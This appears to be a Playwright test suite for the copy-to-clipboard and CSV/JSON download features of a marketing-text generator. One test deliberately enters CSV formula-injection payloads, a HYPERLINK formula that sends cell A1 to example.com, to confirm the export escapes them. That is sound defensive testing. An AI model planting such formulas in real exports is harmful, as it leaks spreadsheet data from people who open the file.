"""What a marketer takes along: texts on the clipboard, and files."""

import csv
import io
import json
from random import Random
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from adapters.sheets.containers.separated import Separated
from tests.fakes.spreadsheet_cells import CELLS, WITH_SEMICOLONS
from tests.studio.actions import cards, generate, text_box, texts

COLUMNS = [
    "product",
    "title",
    "platform",
    "variant",
    "tone",
    "field",
    "text",
    "count",
    "limit",
    "hashtags",
    "template_id",
    "quality",
    "confidence",
    "needs_review",
    "model_version",
    "seed",
    "edited",
]


def _clipboard(page: Page) -> str:
    text: str = page.evaluate("navigator.clipboard.readText()")
    return text


def _download(page: Page, kind: str) -> bytes:
    with page.expect_download() as download:
        page.get_by_role("button", name=f"Download {kind}").click()
    assert download.value.suggested_filename == f"creatives.{kind.lower()}"
    return download.value.path().read_bytes()


def _rows(page: Page) -> list[dict[str, str]]:
    text = _download(page, "CSV").decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def _change(page: Page, platform: str, field: str, text: str) -> None:
    card = cards(page, platform).first
    with page.expect_response("**/lint"):
        text_box(card, field).fill(text)
    expect(card.locator(".count").first).not_to_contain_text("…")


def test_a_text_is_copied_as_it_stands_and_that_is_spoken(page: Page) -> None:
    answer = generate(page, "x", "pinterest")
    button = page.get_by_role("button", name="Copy X, variant 1, Post")
    button.click()
    expect(button).to_have_text("Copied")
    expect(page.locator("#announcer")).to_have_text("X, variant 1, Post copied")
    [field] = answer["platforms"][0]["variants"][0]["fields"]
    assert _clipboard(page) == field["text"]


def test_a_changed_text_is_copied_changed(page: Page) -> None:
    generate(page, "x")
    _change(page, "x", "Post", "My own words\nin two lines")
    page.get_by_role("button", name="Copy X, variant 1, Post").click()
    expect(page.locator("#announcer")).to_have_text("X, variant 1, Post copied")
    assert _clipboard(page) == "My own words\nin two lines"


def test_a_whole_card_is_copied_with_the_names_of_its_fields(page: Page) -> None:
    generate(page, "pinterest")
    page.get_by_role("button", name="Copy all Pinterest, variant 2").click()
    expect(page.locator("#announcer")).to_have_text("Pinterest, variant 2 copied")
    title, description = texts(cards(page, "pinterest").nth(1))
    assert _clipboard(page) == f"Title\n{title}\n\nDescription\n{description}"


def test_without_a_clipboard_the_text_is_copied_by_selecting_it(page: Page) -> None:
    page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    generate(page, "x")
    [text] = texts(cards(page, "x").first)
    button = page.get_by_role("button", name="Copy X, variant 1, Post")
    button.click()
    expect(button).to_have_text("Copied")
    expect(button).to_be_focused()
    page.locator("#check-text").focus()
    page.keyboard.press("Control+V")
    expect(page.locator("#check-text")).to_have_value(text)


def test_a_copy_that_the_browser_forbids_is_not_called_one(page: Page) -> None:
    page.evaluate(
        """() => {
            Object.defineProperty(navigator, 'clipboard', { value: undefined });
            document.execCommand = () => false;
        }"""
    )
    generate(page, "x")
    button = page.get_by_role("button", name="Copy X, variant 1, Post")
    button.click()
    expect(button).to_have_text("Not copied")
    expect(page.locator("#announcer")).to_contain_text("not copied")


def test_both_files_hold_every_text(page: Page) -> None:
    page.get_by_role("button", name="All", exact=True).click()
    answer = generate(page)
    rows = _rows(page)
    listed = json.loads(_download(page, "JSON"))
    assert list(rows[0]) == COLUMNS
    assert [list(row) for row in listed] == [COLUMNS] * len(rows)
    written = [
        (copy["platform"], place, variant["tone"], field)
        for copy in answer["platforms"]
        for place, variant in enumerate(copy["variants"], 1)
        for field in variant["fields"]
    ]
    assert len(rows) == len(written)
    for row, entry, (platform, place, tone, field) in zip(rows, listed, written, strict=True):
        wanted: dict[str, Any] = {
            "product": 1,
            "title": "Walnut Desk Lamp, dimmable",
            "platform": platform,
            "variant": place,
            "tone": tone,
            "field": field["field"],
            "text": field["text"],
            "count": field["count"],
            "limit": field["limit"] or field["soft_limit"],
            "hashtags": " ".join(field["hashtags"]),
            "template_id": field["template_id"],
            "edited": False,
        } | {
            name: answer[name]
            for name in ("quality", "confidence", "needs_review", "model_version", "seed")
        }
        assert entry == wanted
        assert row.keys() == wanted.keys()
        assert row["text"].lstrip("'") == field["text"]
        assert (row["count"], row["needs_review"]) == (str(field["count"]), "false")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_no_cell_starts_as_a_formula(page: Page, start: str) -> None:
    generate(page, "x")
    text = f'{start}HYPERLINK("https://example.com/?q="&A1, "prize")'
    _change(page, "x", "Post", text)
    first = _rows(page)[0]
    assert first["text"] == f"'{text}"
    assert first["edited"] == "true"
    entry = json.loads(_download(page, "JSON"))[0]
    assert entry["text"] == text
    assert entry["edited"] is True


def _random_cells() -> list[str]:
    """Of what matters to the rule; the same in every run."""
    draw = Random(18)
    signs = "=-@\uff0b;,\t\r\n \"'a\u200b\u00a0\u2800\x1f\U000e0001\U0001f600"
    return ["".join(draw.choices(signs, k=draw.randint(0, 8))) for _ in range(2_000)]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_the_page_writes_cells_as_the_script_does(page: Page, delimiter: str) -> None:
    cells = [*CELLS, *WITH_SEMICOLONS, *_random_cells()]
    written = page.evaluate(
        """async ([cells, delimiter]) => {
            const { asCsv } = await import("/studio/results/download.js");
            return asCsv(cells.map((text) => ({ text })), { delimiter, byte_order_mark: false });
        }""",
        [cells, delimiter],
    )
    form = Separated(delimiter=delimiter, is_verbatim=False)
    [head] = csv.reader([written.partition("\r\n")[0]], delimiter=delimiter)
    assert written.encode() == form.head(head) + form.part(head, [{"text": cell} for cell in cells])


def test_a_title_that_is_a_formula_is_none_in_the_file(page: Page) -> None:
    title = "=1+1 Desk Lamp"
    page.locator("#title").fill(title)
    generate(page, "x")
    assert {row["title"] for row in _rows(page)} == {f"'{title}"}


def test_quotes_commas_and_lines_come_back_from_the_file(page: Page) -> None:
    generate(page, "x")
    text = 'One "quoted" word, a comma,\nand a second line – in Grün'
    _change(page, "x", "Post", text)
    assert _rows(page)[0]["text"] == text


def test_another_variant_is_in_the_file_with_its_own_seed(page: Page) -> None:
    answer = generate(page, "x")
    page.get_by_role("button", name="Another variant for X").click()
    expect(cards(page, "x")).to_have_count(3)
    rows = _rows(page)
    assert [row["variant"] for row in rows] == ["1", "2", "3"]
    assert [row["seed"] for row in rows] == [
        str(answer["seed"]),
        str(answer["seed"]),
        str(answer["seed"] + 1),
    ]
